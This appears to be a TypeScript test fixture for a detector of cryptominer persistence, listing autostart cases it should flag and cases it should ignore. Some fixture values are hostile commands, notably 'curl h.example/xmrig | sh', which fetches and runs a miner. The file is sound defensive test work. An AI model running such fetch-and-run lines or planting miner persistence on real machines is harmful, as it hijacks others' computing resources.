import type { DetectorFixture } from '../../../tests/fixture.ts';
import { at, autostartOf, codeOf, configOf, processOf } from '../../../tests/machine-story.ts';

const unit = '/etc/systemd/system/netd.service';

export const fixture: DetectorFixture = {
  fires: [
    {
      name: 'a cron line whose command names a pool and an account',
      stage: 'configured',
      seen: [
        autostartOf({ starts: '/tmp/x -o pool.example.com:3333', mines: true, carries: 'miner', why: ['mines'] }),
        at('/etc/cron.d/x', configOf(), 'config'),
      ],
    },
    {
      name: 'a cron line that fetches a miner',
      stage: 'capability',
      seen: [autostartOf({ starts: 'curl h.example/xmrig | sh', carries: 'miner', why: ['fetches-and-runs'] })],
    },
    {
      name: 'a key whose command fetches a miner',
      stage: 'capability',
      seen: [autostartOf({ mechanism: 'ssh-key', starts: 'curl h.example/xmrig | sh', carries: 'miner' })],
    },
    {
      name: 'a unit whose program has the code of a miner',
      stage: 'capability',
      seen: [
        autostartOf({ mechanism: 'systemd', place: unit, name: 'netd.service', programs: ['/usr/lib/netd'] }),
        at('/usr/lib/netd', codeOf(), 'executable'),
      ],
    },
    {
      name: "a script in a hidden folder that holds a miner's configuration",
      stage: 'configured',
      seen: [
        autostartOf({ programs: ['/var/tmp/.x/run.sh'], why: ['from-temporary-folder'] }),
        at('/var/tmp/.x/config.json', configOf({ source: 'json' }), 'config'),
      ],
    },
    {
      name: 'a profile that runs a script which fetches a miner',
      stage: 'capability',
      seen: [
        autostartOf({ mechanism: 'shell-profile', place: '/root/.profile', programs: ['/root/.a.sh'] }),
        at('/root/.a.sh', codeOf({ purpose: 'fetches-miner', form: 'script' }), 'script'),
      ],
    },
    {
      name: 'a unit whose program is seen mining',
      stage: 'configured',
      seen: [
        autostartOf({ mechanism: 'systemd', place: unit, name: 'netd.service', programs: ['/usr/lib/netd'] }),
        processOf({ program: '/usr/lib/netd', why: ['mines', 'busy'] }),
        at('/proc/7/cmdline', configOf()),
      ],
    },
    {
      name: 'an entry out of a hidden folder whose program is the parent of a miner',
      stage: 'capability',
      seen: [
        autostartOf({ programs: ['/root/.x/watch'], why: ['from-hidden-folder'] }),
        processOf({ why: ['mines', 'busy'], parents: [{ pid: 3, name: 'watch', program: '/root/.x/watch' }] }),
      ],
    },
    {
      name: 'a unit of a miner, with the settings that its command names',
      stage: 'configured',
      seen: [
        autostartOf({
          mechanism: 'systemd',
          programs: ['/opt/xmrig/xmrig'],
          starts: '/opt/xmrig/xmrig --config=/etc/xmrig.json',
          mines: true,
          why: ['mines'],
        }),
        at('/etc/xmrig.json', configOf({ source: 'json' }), 'config'),
      ],
    },
    {
      name: 'a unit of a miner, with the settings in its folder',
      stage: 'configured',
      seen: [
        autostartOf({ mechanism: 'systemd', programs: ['/opt/netd/netd'] }),
        at('/opt/netd/netd', codeOf(), 'executable'),
        at('/opt/netd/config.json', configOf({ source: 'json' }), 'config'),
      ],
    },
  ],
  silent: [
    {
      name: "an ordinary service beside whose program a miner's settings lie",
      seen: [
        autostartOf({ mechanism: 'systemd', programs: ['/opt/app/server'] }),
        at('/opt/app/config.json', configOf({ source: 'json' }), 'config'),
      ],
    },
    {
      name: 'a job of a cloud drive',
      seen: [autostartOf({ starts: 'rclone sync /srv/data remote:backup', programs: ['/usr/bin/rclone'] })],
    },
    {
      name: 'an entry whose program only behaves like a miner',
      seen: [autostartOf({ programs: ['/tmp/.x/x'] }), processOf({ why: ['talks-to-pool', 'from-temporary-folder'] })],
    },
    { name: 'an ordinary entry', seen: [autostartOf({ starts: 'run-parts /etc/cron.hourly', carries: 'command' })] },
    {
      name: "a script in /tmp, where somebody's configuration of a miner lies",
      seen: [
        autostartOf({ programs: ['/tmp/run.sh'], why: ['from-temporary-folder'] }),
        at('/tmp/config.json', configOf({ source: 'json' }), 'config'),
      ],
    },
    {
      name: 'the unit of a service that was broken into',
      seen: [
        autostartOf({
          mechanism: 'systemd',
          place: '/etc/systemd/system/tomcat.service',
          name: 'tomcat.service',
          programs: ['/opt/tomcat/bin/run'],
          why: ['not-packaged'],
        }),
        processOf({
          unit: 'tomcat.service',
          why: ['mines'],
          parents: [{ pid: 3, name: 'run', program: '/opt/tomcat/bin/run' }],
        }),
      ],
    },
    {
      name: 'the unit of cron, under which a miner runs',
      seen: [
        autostartOf({ mechanism: 'systemd', place: '/lib/systemd/system/cron.service', programs: ['/usr/sbin/cron'] }),
        processOf({
          why: ['mines'],
          unit: 'cron.service',
          parents: [{ pid: 2, name: 'cron', program: '/usr/sbin/cron' }],
        }),
      ],
    },
    {
      name: 'the other entry of a file that starts a miner',
      seen: [
        autostartOf({ starts: 'run-parts /etc/cron.hourly', entry: '17 * * * * root run-parts /etc/cron.hourly' }),
        autostartOf({ mechanism: 'ssh-key' }),
        at('/etc/cron.d/x', configOf(), 'config'),
      ],
    },
    {
      name: 'a key on a machine that mines',
      seen: [autostartOf({ mechanism: 'ssh-key', place: '/root/.ssh/authorized_keys' }), processOf({ why: ['mines'] })],
    },
    {
      name: 'an interpreter that mines and is started elsewhere, too',
      seen: [
        autostartOf({ programs: ['/usr/bin/python3'], starts: '/usr/bin/python3 /opt/report.py' }),
        processOf({ program: '/usr/bin/python3', command: 'python3 /tmp/m.py', why: ['mines'] }),
      ],
    },
  ],
};
